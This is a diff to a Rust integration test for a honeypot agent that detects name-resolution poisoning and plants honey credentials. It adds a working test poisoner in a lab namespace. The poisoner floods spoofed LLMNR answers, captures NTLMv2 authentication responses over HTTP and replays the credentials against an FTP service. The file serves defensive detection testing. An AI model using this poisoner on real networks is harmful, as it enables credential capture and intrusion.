@@ -9,11 +9,13 @@
 //! Needs root (`ip netns`), `ip` (iproute2), `setpriv` (util-linux) and `dnsmasq`
 //! (Debian `dnsmasq-base`) for the DHCP test.
 
-use honeybee_agent::services::detectors::{arp, capture, ra};
+use honeybee_agent::services::detectors::{arp, capture, ntlm, ra};
 use honeybee_agent::services::{Limits, ServiceManager};
 use honeybee_agent::sink::EventSink;
-use honeybee_proto::config::{DetectorOptions, NodeConfig, ServiceConfig, ServiceKind};
-use honeybee_proto::event::{EventKind, NetworkAlert};
+use honeybee_proto::config::{
+    DetectorOptions, FtpOptions, LoginPolicy, NodeConfig, ServiceConfig, ServiceKind,
+};
+use honeybee_proto::event::{EventKind, HoneyCredentialOffer, NetworkAlert};
 use std::io::{BufRead, BufReader, Write};
 use std::net::{Ipv4Addr, SocketAddr};
 use std::process::{Child, ChildStdin, Command, Stdio};
@@ -158,14 +160,24 @@ impl Lab {
         opts: DetectorOptions,
         wrap: &[&str],
     ) -> (ChildStdin, smpsc::Receiver<String>) {
-        let cfg = NodeConfig {
-            services: vec![ServiceConfig {
-                name: "detectors".into(),
-                listen: "0.0.0.0:0".parse().unwrap(),
-                enabled: true,
-                kind: ServiceKind::Detectors(opts),
-            }],
-        };
+        self.node_with(opts, Vec::new(), wrap)
+    }
+
+    /// The node with its detectors and `more` services beside them.
+    fn node_with(
+        &mut self,
+        opts: DetectorOptions,
+        more: Vec<ServiceConfig>,
+        wrap: &[&str],
+    ) -> (ChildStdin, smpsc::Receiver<String>) {
+        let mut services = vec![ServiceConfig {
+            name: "detectors".into(),
+            listen: "0.0.0.0:0".parse().unwrap(),
+            enabled: true,
+            kind: ServiceKind::Detectors(opts),
+        }];
+        services.extend(more);
+        let cfg = NodeConfig { services };
         cfg.validate().unwrap();
         let json = serde_json::to_string(&cfg).unwrap();
         let ns = self.node.clone();
@@ -285,6 +297,101 @@ fn llmnr_poisoner_is_reported_once() {
         "the responder's MAC, from the neighbour table"
     );
     assert!(alerts(&evs, false).is_empty(), "{evs:?}");
+}
+
+/// The port of the test poisoner's HTTP NTLM server.
+const NTLM_PORT: u16 = 8088;
+/// Copies of each poisoned answer the flooding poisoner sends.
+const FLOOD: u32 = 50;
+
+#[test]
+fn poisoner_is_offered_honey_credentials_once_and_their_use_is_an_auth_attempt() {
+    let mut lab = Lab::new("honeycred");
+    let gw = lab.gw.clone();
+    let (mut r_in, r_rx) = lab.child(
+        &gw,
+        "ntlm_poisoner",
+        &[("HB_DETECT_COUNT", FLOOD.to_string())],
+        &[],
+    );
+    wait_for(&r_rx, "the poisoner to listen", |l| l == "HBREADY");
+    let ftp = ServiceConfig {
+        name: "ftp".into(),
+        listen: format!("{NODE_IP}:2121").parse().unwrap(),
+        enabled: true,
+        kind: ServiceKind::Ftp(FtpOptions {
+            login: LoginPolicy::Never,
+            ..FtpOptions::default()
+        }),
+    };
+    let (stdin, rx) = lab.node_with(
+        only(DetectorOptions {
+            poisoning: true,
+            poisoning_interval_s: 1,
+            honey_credentials: true,
+            honey_credentials_port: NTLM_PORT,
+            ..off()
+        }),
+        vec![ftp],
+        &[],
+    );
+    // The node's AUTHENTICATE, as the poisoner read it: the honey user and domain.
+    let got = wait_for(&r_rx, "the honey-credentials", |l| l.starts_with("HBNTLM "));
+    let parts: Vec<&str> = got.split(' ').collect();
+    let (user, domain, challenge, nt) = (parts[1], parts[2], parts[4], parts[5]);
+    let offer: HoneyCredentialOffer = loop {
+        if let (_, src, EventKind::HoneyCredentialsOffered(o)) =
+            next_event(&rx, "the offer's event")
+        {
+            assert_eq!(src.map(|s| s.ip()), Some(GW_IP.into()));
+            break o;
+        }
+    };
+    assert_eq!(offer.outcome, "sent", "{offer:?}");
+    assert_eq!(offer.protocol, "http-ntlm");
+    assert_eq!(
+        (offer.username.as_str(), offer.domain.as_str()),
+        (user, domain)
+    );
+    assert_eq!(offer.responder, std::net::IpAddr::from(GW_IP));
+    // What a poisoner cracks is the password the event records.
+    let hex = |s: &str| -> Vec<u8> {
+        (0..s.len())
+            .step_by(2)
+            .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
+            .collect()
+    };
+    let challenge: [u8; 8] = hex(challenge).try_into().unwrap();
+    assert!(
+        ntlm::verify_ntlmv2(&hex(nt), &challenge, user, domain, &offer.password),
+        "the NTLMv2 response is the honey password's"
+    );
+    // More rounds, each answered FLOOD times: still the one offer.
+    wait_for(&r_rx, "five more poisoned rounds", |l| {
+        l == format!("HBANSWERED {}", 6 * FLOOD)
+    });
+    // The attacker tries the cracked credentials on the node's FTP server.
+    writeln!(r_in, "LOGIN {user} {}", offer.password).unwrap();
+    wait_for(&r_rx, "the FTP login to be refused", |l| l == "HBLOGIN 530");
+    writeln!(r_in, "COUNT").unwrap();
+    let conns = wait_for(&r_rx, "the poisoner's count", |l| l.starts_with("HBCONNS "));
+    assert_eq!(conns, "HBCONNS 1", "one offer for a flood of answers");
+    let evs = stop_node(stdin, &rx);
+    let offers = evs
+        .iter()
+        .filter(|(_, _, k)| matches!(k, EventKind::HoneyCredentialsOffered(_)))
+        .count();
+    assert_eq!(offers, 0, "no second offer after the first: {evs:?}");
+    let login = evs
+        .iter()
+        .find_map(|(svc, src, k)| match k {
+            EventKind::AuthAttempt(a) if svc == "ftp" => Some((src, a.clone())),
+            _ => None,
+        })
+        .expect("the FTP login attempt");
+    assert_eq!(login.1.username, user);
+    assert_eq!(login.1.password.as_deref(), Some(offer.password.as_str()));
+    assert_eq!(login.0.map(|s| s.ip()), Some(GW_IP.into()));
 }
 
 #[test]
@@ -553,6 +660,7 @@ fn child() {
     match role.as_str() {
         "node" => node_child(),
         "llmnr_responder" => llmnr_responder(),
+        "ntlm_poisoner" => ntlm_poisoner(),
         "arp_spoof" => arp_spoof(),
         "rogue_ra" => rogue_ra(),
         "ra_responder" => ra_responder(),
@@ -631,6 +739,130 @@ fn llmnr_responder() {
         s.send_to(&a, from).unwrap();
         n += 1;
         say(&format!("HBANSWERED {n}"));
+    }
+}
+
+/// A Responder-like poisoner with an HTTP NTLM server: answers every LLMNR query
+/// `HB_DETECT_COUNT` times (a flood of poisoned answers), asks every HTTP client for
+/// NTLM and prints each AUTHENTICATE as `HBNTLM user domain workstation challenge nt`
+/// (hex). On stdin: `LOGIN user pass` tries them on the node's FTP server (`HBLOGIN
+/// code`), `COUNT` prints `HBCONNS n`, the HTTP connections so far.
+fn ntlm_poisoner() {
+    use std::io::Read;
+    use std::sync::Arc;
+    use std::sync::atomic::{AtomicU32, Ordering};
+    let flood: u32 = std::env::var("HB_DETECT_COUNT").unwrap().parse().unwrap();
+    let u = std::net::UdpSocket::bind("0.0.0.0:5355").unwrap();
+    u.join_multicast_v4(&Ipv4Addr::new(224, 0, 0, 252), &GW_IP)
+        .unwrap();
+    let http = std::net::TcpListener::bind((GW_IP, NTLM_PORT)).unwrap();
+    let conns = Arc::new(AtomicU32::new(0));
+    let c2 = Arc::clone(&conns);
+    std::thread::spawn(move || {
+        for s in http.incoming() {
+            let Ok(mut s) = s else { continue };
+            c2.fetch_add(1, Ordering::SeqCst);
+            s.set_read_timeout(Some(WAIT)).unwrap();
+            let challenge: [u8; 8] = rand::random();
+            let mut buf = Vec::new();
+            let mut heads = 0;
+            loop {
+                let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") else {
+                    let mut c = [0u8; 4096];
+                    match s.read(&mut c) {
+                        Ok(n) if n > 0 => buf.extend_from_slice(&c[..n]),
+                        _ => break,
+                    }
+                    continue;
+                };
+                let head = String::from_utf8_lossy(&buf[..i]).into_owned();
+                buf.drain(..i + 4);
+                heads += 1;
+                let token = head
+                    .lines()
+                    .find_map(|l| l.strip_prefix("Authorization: NTLM "))
+                    .map(|t| {
+                        use base64::Engine;
+                        base64::engine::general_purpose::STANDARD
+                            .decode(t.trim())
+                            .unwrap()
+                    });
+                let answer = match token {
+                    None => "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: NTLM\r\nContent-Length: 0\r\n\r\n".to_owned(),
+                    Some(t) if t[8] == 1 => {
+                        let mut m = b"NTLMSSP\0".to_vec();
+                        m.extend_from_slice(&2u32.to_le_bytes());
+                        m.extend_from_slice(&[6, 0, 6, 0, 56, 0, 0, 0]);
+                        m.extend_from_slice(&0xe289_8215u32.to_le_bytes());
+                        m.extend_from_slice(&challenge);
+                        m.extend_from_slice(&[0; 8]);
+                        m.extend_from_slice(&[14, 0, 14, 0, 62, 0, 0, 0]);
+                        m.extend_from_slice(&[10, 0, 0x65, 0x4a, 0, 0, 0, 15]);
+                        m.extend_from_slice(b"S\0M\0B\0");
+                        m.extend_from_slice(b"\x02\x00\x06\x00S\0M\0B\0\x00\x00\x00\x00");
+                        use base64::Engine;
+                        format!(
+                            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: NTLM {}\r\nContent-Length: 0\r\n\r\n",
+                            base64::engine::general_purpose::STANDARD.encode(m)
+                        )
+                    }
+                    Some(t) => {
+                        let (user, domain, ws, nt) = ntlm::parse_authenticate(&t).unwrap();
+                        let h: String = nt.iter().map(|b| format!("{b:02x}")).collect();
+                        let c: String = challenge.iter().map(|b| format!("{b:02x}")).collect();
+                        say(&format!("HBNTLM {user} {domain} {ws} {c} {h}"));
+                        "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n".to_owned()
+                    }
+                };
+                if s.write_all(answer.as_bytes()).is_err() || heads >= 3 {
+                    break;
+                }
+            }
+        }
+    });
+    std::thread::spawn(move || {
+        let mut buf = [0u8; 1500];
+        let mut n = 0;
+        while let Ok((len, from)) = u.recv_from(&mut buf) {
+            let q = &buf[..len];
+            if len < 12 || q[2] & 0x80 != 0 {
+                continue;
+            }
+            let mut a = q.to_vec();
+            a[2] |= 0x80;
+            a[7] = 1;
+            a.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 30, 0, 4]);
+            a.extend_from_slice(&GW_IP.octets());
+            for _ in 0..flood {
+                let _ = u.send_to(&a, from);
+                n += 1;
+            }
+            say(&format!("HBANSWERED {n}"));
+        }
+    });
+    say("HBREADY");
+    for line in std::io::stdin().lines().map_while(Result::ok) {
+        let words: Vec<&str> = line.split(' ').collect();
+        match words.as_slice() {
+            ["LOGIN", user, pass] => {
+                let node: Ipv4Addr = NODE_IP.parse().unwrap();
+                let s = std::net::TcpStream::connect((node, 2121)).unwrap();
+                s.set_read_timeout(Some(WAIT)).unwrap();
+                let mut r = BufReader::new(s.try_clone().unwrap());
+                let mut w = s;
+                let mut l = String::new();
+                r.read_line(&mut l).unwrap();
+                write!(w, "USER {user}\r\n").unwrap();
+                l.clear();
+                r.read_line(&mut l).unwrap();
+                write!(w, "PASS {pass}\r\n").unwrap();
+                l.clear();
+                r.read_line(&mut l).unwrap();
+                say(&format!("HBLOGIN {}", &l[..3.min(l.len())]));
+            }
+            ["COUNT"] => say(&format!("HBCONNS {}", conns.load(Ordering::SeqCst))),
+            _ => {}
+        }
     }
 }
 
